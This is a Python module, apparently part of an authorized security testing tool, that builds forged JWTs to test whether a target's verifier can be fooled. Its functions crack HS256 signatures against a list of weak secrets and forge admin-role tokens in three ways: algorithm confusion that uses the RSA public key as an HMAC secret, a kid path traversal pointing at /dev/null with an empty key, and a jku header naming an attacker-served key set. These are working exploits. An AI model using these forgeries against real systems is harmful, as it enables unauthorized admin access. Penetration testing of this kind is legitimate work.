"""Token attacks for the two algorithms the contract allows (S4), as tokens to send: nothing here talks to a target.

HS256: a signing secret from a list of well-known weak ones verifies the target's own token (checked locally, no
request). RS256: the public key, which anyone may have, used as an HMAC secret (algorithm confusion: a verifier
that takes the algorithm from the token accepts it), a ``kid`` that points the verifier at a file, and a ``jku``
that points it at a key set of the attacker's.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
from collections.abc import Iterator

# Well-known secrets of tutorials, framework defaults and leaked configurations: a target signing with one of them
# lets anyone mint an admin token.
WEAK_SECRETS = (
    "secret",
    "secret123",
    "secretkey",
    "secret-key",
    "mysecret",
    "supersecret",
    "s3cr3t",
    "changeme",
    "change-me",
    "password",
    "key",
    "jwt",
    "jwt-secret",
    "jwt_secret",
    "jwtsecret",
    "your-256-bit-secret",
    "your_jwt_secret",
    "default",
    "test",
    "dev",
    "admin",
    "qwerty",
    "123456",
    "",
)


def _b64(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def _unb64(text: str) -> bytes:
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


def header(token: str) -> dict:
    return json.loads(_unb64(token.split(".")[0]))


def claims(token: str) -> dict:
    return json.loads(_unb64(token.split(".")[1]))


def hs256(head: dict, body: dict, key: bytes) -> str:
    """A token signed with HMAC-SHA256 under ``key``, whatever the key looks like (PyJWT refuses PEM keys)."""
    signing = f"{_b64(json.dumps(head).encode())}.{_b64(json.dumps(body).encode())}"
    return f"{signing}.{_b64(hmac.new(key, signing.encode(), hashlib.sha256).digest())}"


def weak_secret(token: str) -> str | None:
    """The well-known secret that verifies this HS256 token's signature, or None."""
    if header(token).get("alg") != "HS256":
        return None
    signing, _, signature = token.rpartition(".")
    given = _unb64(signature)
    for secret in WEAK_SECRETS:
        if hmac.compare_digest(hmac.new(secret.encode(), signing.encode(), hashlib.sha256).digest(), given):
            return secret
    return None


def public_pem(found: str) -> str | None:
    """A PEM public key from what a target serves: a PEM, or a JWKS (its first RSA key)."""
    text = found.strip()
    if text.startswith("-----BEGIN"):
        return text + "\n"
    try:
        keys = json.loads(text).get("keys") or []
    except (ValueError, AttributeError):
        return None
    from cryptography.hazmat.primitives import serialization
    from jwt.algorithms import RSAAlgorithm

    for key in keys:
        if isinstance(key, dict) and key.get("kty") == "RSA":
            public = RSAAlgorithm.from_jwk(json.dumps(key))
            return public.public_bytes(  # type: ignore[union-attr]
                serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
            ).decode()
    return None


def confused(token: str, pem: str) -> Iterator[tuple[str, str]]:
    """(what, token): the token's claims as an admin, HS256-signed with the public key as served and in the forms a
    verifier may hold it (with or without its last newline, PKCS#1)."""
    body = {**claims(token), "role": "admin"}
    head = {"alg": "HS256", "typ": "JWT"}
    forms = {"the PEM": pem, "the PEM without its last newline": pem.rstrip("\n")}
    try:
        from cryptography.hazmat.primitives import serialization

        key = serialization.load_pem_public_key(pem.encode())
        forms["the PKCS#1 PEM"] = key.public_bytes(
            serialization.Encoding.PEM, serialization.PublicFormat.PKCS1
        ).decode()
    except ValueError:
        pass
    for what, form in forms.items():
        yield f"alg confusion (HS256 keyed with {what})", hs256(head, body, form.encode())


def kid_traversal(token: str) -> tuple[str, str]:
    """HS256 with an empty key and a ``kid`` naming /dev/null: a verifier that reads its key from ``kid``'s path."""
    body = {**claims(token), "role": "admin"}
    return "kid pointing at /dev/null", hs256(
        {"alg": "HS256", "typ": "JWT", "kid": "../../../../../../dev/null"}, body, b""
    )


def foreign_key_set(token: str, jku: str) -> tuple[str, str, dict]:
    """An RS256 token signed with a key of gonogo's own, its ``jku`` naming a key set that holds it: (what, token,
    the key set to serve at ``jku``). A verifier that fetches keys from the token's header accepts it."""
    import jwt
    from cryptography.hazmat.primitives.asymmetric import rsa
    from jwt.algorithms import RSAAlgorithm

    private = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    jwk = {**json.loads(RSAAlgorithm.to_jwk(private.public_key())), "kid": "gonogo", "use": "sig", "alg": "RS256"}
    forged = jwt.encode(
        {**claims(token), "role": "admin"}, private, algorithm="RS256", headers={"kid": "gonogo", "jku": jku}
    )
    return "jku naming gonogo's own key set", forged, {"keys": [jwk]}
